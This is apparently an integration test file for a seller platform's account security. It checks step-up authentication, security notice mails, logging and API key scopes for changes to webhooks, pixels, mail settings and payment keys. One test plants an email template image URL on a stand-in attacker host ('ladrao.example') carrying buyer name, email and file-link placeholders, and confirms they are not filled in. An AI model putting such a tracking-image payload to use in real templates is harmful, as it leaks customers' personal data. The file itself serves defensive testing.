import { beforeAll, describe, expect, test } from "vitest";
import { createApiKey } from "#app/domain/identity/access/api-keys.server.ts";
import { DATA_EXITS, EXPORTS } from "#app/domain/identity/access/data-exits.ts";
import { GUARDED_CHANGES } from "#app/domain/identity/access/guarded-changes.ts";
import { SCOPES } from "#app/domain/identity/access/scopes.ts";
import { SECURITY_TEXTS } from "#app/domain/mail/queue/security-texts.ts";
import { withVersion } from "#tests/integration/identity/form-version.ts";
import { signedInAgo } from "#tests/integration/identity/signed-in-ago.ts";
import { type App, startApp } from "#tests/support/app.ts";
import { describeAnswer, formsOf } from "#tests/support/clients/page-forms.ts";
import type { visitor } from "#tests/support/clients/visitor.ts";
import { sql } from "#tests/support/database.ts";
import { makeProduct, makeSale, makeSeller, markPaid } from "#tests/support/make.ts";
import { routeTable } from "#tests/support/routes/route-table.ts";
import { mailsWithTexts, opened, renderMails } from "#tests/support/rows/make-mail.ts";
import { receiverAt } from "#tests/support/rows/make-webhook.ts";
import { columnName } from "#tests/support/rows/schema-tables.ts";
import { until } from "#tests/support/until.ts";

let app: App;
const RECEIVER = receiverAt("exits");

beforeAll(async () => {
  app = await startApp({ worker: 0 });
});

type Fields = Record<string, string>;
/** How an exit is changed by its page, and by the API where that has a method. */
type Way = { page: string; fields: Fields; api?: { address: string; method?: string; body: object } };

const template = { sender_name: "Loja", subject: "Sua compra", html_content: "<p>{product_file_url}</p>" };
const webhook = { name: "CRM", url: RECEIVER, events: ["sale.paid"] };
const utmify = { api_token: "outro-token", source_id: "loja", is_enabled: true };

const WAYS: Record<keyof typeof DATA_EXITS, Way> = {
  utmify: {
    page: "/settings/utmfy",
    fields: { intent: "save", api_token: "outro-token", api_url: RECEIVER, source_id: "loja" },
    api: { address: "/api/utmfy/settings", body: { ...utmify, api_url: RECEIVER } },
  },
  webhook: {
    page: "/settings/webhooks/new",
    fields: {
      intent: "save",
      name: "CRM",
      url: RECEIVER,
      form: "standard",
      events: "sale.paid",
      scope: "all",
    },
    api: { address: "/api/settings/webhooks", body: webhook },
  },
  pixel: {
    page: "/settings/pixels/new?kind=meta",
    fields: {
      ...{ intent: "save", kind: "meta", name: "Conta", pixel_id: "1234567890123456" },
      ...{ token: "sandbox-EAAG1234567890", events: "sale.paid", scope: "all" },
    },
  },
  "member-area": {
    page: "/settings/member-areas/new?kind=cademi",
    fields: { intent: "save", kind: "cademi", name: "Escola", area: "escola", token: "sandbox-1234567890" },
  },
  "mail-account": {
    page: "/settings?tab=gateways",
    fields: { intent: "resend-key", resend_api_key: "re_de-outra-conta" },
    api: { address: "/api/settings/gateways", body: { resend_api_key: "re_de-outra-conta" } },
  },
  "mail-sender": {
    page: "/settings/email",
    fields: { intent: "save", ...template, sender_email: "nova@exemplo.com.br", resend_api_key: "" },
    api: { address: "/api/email/template", body: { ...template, sender_email: "nova@exemplo.com.br" } },
  },
  "mail-domain": {
    page: "/settings/email?tab=domain",
    fields: { intent: "save-domain", domain_name: "loja.exemplo.com.br" },
    api: { address: "/api/email/domain", body: { domain_name: "api.exemplo.com.br" } },
  },
  provider: {
    page: "/settings?tab=gateways",
    fields: { intent: "gateways", pushinpay_enabled: "on", pushinpay_api_key: "7|sandbox-nova" },
    api: { address: "/api/settings/gateways", body: { pushinpay_api_key: "8|sandbox-api" } },
  },
  "api-key": {
    page: "/settings?tab=seguranca",
    fields: { intent: "create-key", name: "Nova", scopes: "sales" },
  },
  "account-email": {
    page: "/settings",
    fields: { intent: "profile", name: "Vera", email: `outra-${crypto.randomUUID()}@exemplo.com.br` },
  },
};

/** The current columns of an exit. */
async function stateOf(seller: { id: string }, columns: readonly string[]): Promise<string> {
  const states = columns.map(async (name) => {
    const [table, column] = name.split(".") as [string, string];
    const owner = table === "sellers" ? "id" : "seller_id";
    const rows =
      await sql`select ${sql(columnName(column))} from ${sql(table)} where ${sql(owner)} = ${seller.id}`;
    return `${name} ${JSON.stringify(rows)}`;
  });
  return (await Promise.all(states)).join("\n");
}

/** The form as its page posts it now. */
async function posted({ page, fields }: Way, browser: ReturnType<typeof visitor>): Promise<Fields> {
  if (page !== "/settings/utmfy") return withVersion(browser.get, fields);
  const forms = formsOf(page, await (await browser.get(page)).text());
  const saving = forms.find((form) =>
    form.fields.some(([name, value]) => name === "saves" && value === "save"),
  );
  return { ...Object.fromEntries(saving!.fields), ...fields };
}

const mails = (seller: { id: string }) => sql<{ subject: string; kind: string }[]>`
  select subject, kind from mails
  where seller_id = ${seller.id} and kind in ('security-notice', 'email-change')`;

describe.each(Object.entries(DATA_EXITS))("%s", (name, exit) => {
  const way = WAYS[name as keyof typeof DATA_EXITS];

  test("by its page it needs a recent sign-in, notifies by mail, and is logged", async () => {
    const { seller, browser } = await signedInAgo(app, 11);
    const before = await stateOf(seller, exit.columns);
    const challenged = await browser.post(way.page, await posted(way, browser));
    expect(challenged.headers.get("location")).toBe("/confirm-identity");
    expect(await (await browser.get("/confirm-identity")).text()).toContain(GUARDED_CHANGES[exit.stepUp]);
    expect(await stateOf(seller, exit.columns)).toBe(before);
    expect(await mails(seller)).toEqual([]);

    await sql`update sessions set authenticated_at = now() where seller_id = ${seller.id}`;
    const done = await browser.post(way.page, await posted(way, browser));
    expect(done.status, describeAnswer({ status: done.status, html: await done.text() })).toBeLessThan(400);
    const [mail] = await mails(seller);
    // A change of the account's address notifies the old one when it is requested, and is made by a link to the new
    // one.
    if (mail!.kind === "email-change") return;
    expect(mail!.subject).toBe(`Aviso de segurança: ${SECURITY_TEXTS[exit.change].title}`);
    expect(await stateOf(seller, exit.columns)).not.toBe(before);
    await until(() =>
      app
        .log()
        .some(
          (line) =>
            line.msg === "account changed" && line.sellerId === seller.id && line.change === exit.change,
        ),
    );
  });

  test.runIf(exit.scope)(
    "by the API it is refused to an old session, and to a key without its scope",
    async () => {
      const { seller, browser } = await signedInAgo(app, 11);
      const { address, body } = way.api!;
      const before = await stateOf(seller, exit.columns);
      const old = await browser.json(address, body);
      expect([old.status, ((await old.json()) as { code: string }).code]).toEqual([
        403,
        "recent_sign_in_required",
      ]);
      const scopes = SCOPES.filter((scope) => scope !== exit.scope);
      const key = await createApiKey(seller.id, { name: "Quase tudo", scopes });
      const headers = { Authorization: `Bearer ${key}` };
      const byKey = await app.fetch(address, { method: "POST", headers, body: JSON.stringify(body) });
      expect(byKey.status).toBe(403);
      expect(
        await stateOf(
          seller,
          exit.columns.filter((column) => !column.startsWith("api_keys.")),
        ),
      ).toBe(before);
    },
  );
});

test("a key for the settings sends no later buyer's data to the host of a picture in the purchase mail", async () => {
  const seller = await makeSeller();
  const key = await createApiKey(seller.id, { name: "Páginas", scopes: ["settings"] });
  const picture = "https://ladrao.example/?e={customer_email}&n={customer_name}&u={product_file_url}";
  const html_content = `<p>Oi, {customer_name}</p><a href="{product_file_url}">Abrir</a><img src="${picture}">`;
  const saved = await app.fetch("/api/email/template", {
    method: "POST",
    headers: { Authorization: `Bearer ${key}` },
    body: JSON.stringify({ html_content }),
  });
  expect([saved.status, ((await saved.json()) as { warning: string }).warning]).toEqual([
    200,
    expect.stringContaining("{customer_email}, {customer_name}, {product_file_url}"),
  ]);
  const customer = { customerName: "Bia Lima", customerEmail: `bia-${crypto.randomUUID()}@exemplo.com.br` };
  const sale = await makeSale(await makeProduct(seller), customer);
  await markPaid(sale.id);
  await renderMails();
  const [mail] = opened(
    await sql`select body_sealed from ${mailsWithTexts()} where sale_id = ${sale.id} and kind = 'purchase'`,
  );
  expect(mail!.payload.html).toContain("<p>Oi, Bia Lima</p>");
  expect(mail!.payload.html).toContain(`/thank-you/${sale.id}`);
  expect(mail!.payload.html).toContain(`src="${picture}"`);
});

test("exports of many buyers' data are addresses of ours, and open nothing to anybody else", async () => {
  const addresses = (await routeTable()).map(({ address }) => address);
  for (const address of EXPORTS) {
    expect(addresses).toContain(address);
    const path = address.replace(":saleId", crypto.randomUUID());
    const answer = await app.fetch(path, { method: address.startsWith("/api") ? "POST" : "GET" });
    expect([302, 401], path).toContain(answer.status);
    expect(answer.headers.get("location") ?? "/login").toMatch(/^\/login/);
  }
});
